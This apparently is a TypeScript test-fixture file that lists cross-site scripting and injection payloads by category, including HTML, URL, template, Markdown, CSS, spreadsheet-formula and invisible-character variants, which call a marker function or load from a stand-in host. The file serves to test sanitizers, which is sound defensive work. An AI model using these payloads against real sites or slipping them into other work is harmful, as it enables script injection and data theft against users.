/**
 * Texts that run, load or redirect if they are not treated as text. `§` stands for the number of the case: a script
 * calls `pwned(§)`, a request goes to `pwned.test/§`.
 */

/** HTML elements. */
const ELEMENTS: readonly string[] = [
  '<script>pwned(§)</script>',
  '<ScRiPt >pwned(§)</sCrIpT>',
  '<script src=//pwned.test/§></script>',
  '<script type=module>import("//pwned.test/§")</script>',
  '<script type=importmap>{"imports":{"react":"//pwned.test/§"}}</script>',
  '<img src=x onerror=pwned(§)>',
  '<img src=//pwned.test/§>',
  '<img srcset=//pwned.test/§>',
  '<img/src/onerror=pwned(§)>',
  '<svg onload=pwned(§)>',
  '<svg><script>pwned(§)</script></svg>',
  '<svg><animate onbegin=pwned(§) attributeName=x dur=1s>',
  '<svg><a><set attributeName=href to=javascript:pwned(§) /><text y=9>x</text></a></svg>',
  '<svg><image href=//pwned.test/§ /></svg>',
  '<svg><use href=//pwned.test/§#x /></svg>',
  '<svg><foreignObject><img src=x onerror=pwned(§)></foreignObject></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:pwned(§)>x',
  '<math href=javascript:pwned(§)>x</math>',
  '<body onload=pwned(§)>',
  '<iframe src=javascript:parent.pwned(§)>',
  '<iframe srcdoc="<script>parent.pwned(§)</script>">',
  '<iframe src=//pwned.test/§>',
  '<object data=javascript:pwned(§)>',
  '<object data=//pwned.test/§>',
  '<embed src=//pwned.test/§>',
  '<link rel=stylesheet href=//pwned.test/§>',
  '<link rel=prefetch href=//pwned.test/§>',
  '<style>@import "//pwned.test/§"</style>',
  '<style>*{background:url(//pwned.test/§)}</style>',
  '<base href=//pwned.test/§/>',
  '<meta http-equiv=refresh content="0;url=//pwned.test/§">',
  '<form action=javascript:pwned(§)><button autofocus>x',
  '<input autofocus onfocus=pwned(§)>',
  '<details open ontoggle=pwned(§)>x',
  '<video><source onerror=pwned(§)></video>',
  '<video poster=//pwned.test/§>',
  '<audio src onerror=pwned(§)>',
  '<marquee onstart=pwned(§)>x</marquee>',
  '<xss style=animation-name:x onanimationstart=pwned(§)>',
  '<div popover id=x onbeforetoggle=pwned(§)>x<button popovertarget=x>x',
  '<a href=javascript:pwned(§)>x</a>',
  '<template shadowrootmode=open><img src=x onerror=pwned(§)></template>',
  '<div style=position:fixed;inset:0;background:url(//pwned.test/§)>',
  '<plaintext onmouseover=pwned(§)>',
]

const BREAKING_OUT: readonly string[] = [
  '"><img src=x onerror=pwned(§)>',
  "'><img src=x onerror=pwned(§)>",
  '" autofocus onfocus=pwned(§) x="',
  "' autofocus onfocus=pwned(§) x='",
  '` onmouseover=pwned(§) `',
  '</title><script>pwned(§)</script>',
  '</textarea><script>pwned(§)</script>',
  '</style><script>pwned(§)</script>',
  '</script><script>pwned(§)</script>',
  '--><script>pwned(§)</script>',
  '<!--><img src=x onerror=pwned(§)>-->',
  '<![CDATA[<script>pwned(§)</script>]]>',
  ']]><script>pwned(§)</script>',
  "'-pwned(§)-'",
  '"-pwned(§)-"',
  '\\"-pwned(§)//',
  "\\'-pwned(§)//",
  '\u2028pwned(§)//',
  '*/pwned(§)/*',
]

/** URLs. */
const ADDRESSES: readonly string[] = [
  'javascript:pwned(§)',
  'JaVaScRiPt:pwned(§)',
  'java\tscript:pwned(§)',
  'java\nscript:pwned(§)',
  ' javascript:pwned(§)',
  '\u0001javascript:pwned(§)',
  'javascript://x%0Apwned(§)',
  'javascript:/*--></title></style></textarea></script><svg/onload=pwned(§)>*/',
  'javascript&colon;pwned(§)',
  '&#106;avascript:pwned(§)',
  'javascript%3Apwned(§)',
  'view-source:javascript:pwned(§)',
  'vbscript:pwned(§)',
  'data:text/html,<script>pwned(§)</script>',
  'data:image/svg+xml,<svg onload=pwned(§)>',
  'https://pwned.test/§',
  'https://pwned.test/§"onmouseover=pwned(§)',
  '//pwned.test/§',
  '\\\\pwned.test\\§',
]

const MUTATING: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=pwned(§)>">',
  '<svg></p><style><a id="</style><img src=x onerror=pwned(§)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned(§)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(§)>',
  '<listing>&lt;img src=x onerror=pwned(§)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=pwned(§)>">',
  '<table><td><svg><desc><td><style><img src=x onerror=pwned(§)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwned(§)>">',
]

/** Templates and character references. */
const TEMPLATES: readonly string[] = [
  '{{constructor.constructor("pwned(§)")()}}',
  '{{{pwned(§)}}}',
  '${pwned(§)}',
  '#{pwned(§)}',
  '<%= pwned(§) %>',
  '&lt;script&gt;pwned(§)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=pwned(§)&amp;gt;',
  '&#x3c;svg onload=pwned(§)&#x3e;',
  '%3Cscript%3Epwned(§)%3C/script%3E',
  '\\u003cscript\\u003epwned(§)\\u003c/script\\u003e',
  '＜script＞pwned(§)＜/script＞',
  '+ADw-script+AD4-pwned(§)+ADw-/script+AD4-',
]

/** Markdown, styles and formulas. */
const OTHER_LANGUAGES: readonly string[] = [
  '[x](javascript:pwned(§))',
  '![x](https://pwned.test/§)',
  '![x](x "x\\" onerror=pwned(§)")',
  '[x](<java\nscript:pwned(§)>)',
  '<javascript:pwned(§)>',
  '[x][1]\n\n[1]: javascript:pwned(§)',
  '```x"><img src=x onerror=pwned(§)>\nx\n```',
  '| <svg onload=pwned(§)> |\n|-|',
  'red;background:url(//pwned.test/§)',
  '}*{background:url(//pwned.test/§)}',
  'expression(pwned(§))',
  '=HYPERLINK("https://pwned.test/§","x")',
  '@SUM(1)*pwned(§)',
  '+pwned(§)',
  '\t=pwned(§)',
]

/** Texts hidden among invisible characters. */
const HIDDEN: readonly string[] = [
  '\u202e<script>pwned(§)</script>',
  '\u2066"><img src=x onerror=pwned(§)>\u2069',
  '\ufeff<script>pwned(§)</script>',
  '<scr\0ipt>pwned(§)</script>',
  '<\u200bscript>pwned(§)</script>',
  'x\r\n\r\n<script>pwned(§)</script>',
  '\ud800<script>pwned(§)</script>',
  '<img\u000bsrc=x\u000conerror=pwned(§)>',
]

export const SCRIPT_TEXTS: readonly string[] = [
  ...ELEMENTS,
  ...BREAKING_OUT,
  ...ADDRESSES,
  ...MUTATING,
  ...TEMPLATES,
  ...OTHER_LANGUAGES,
  ...HIDDEN,
]
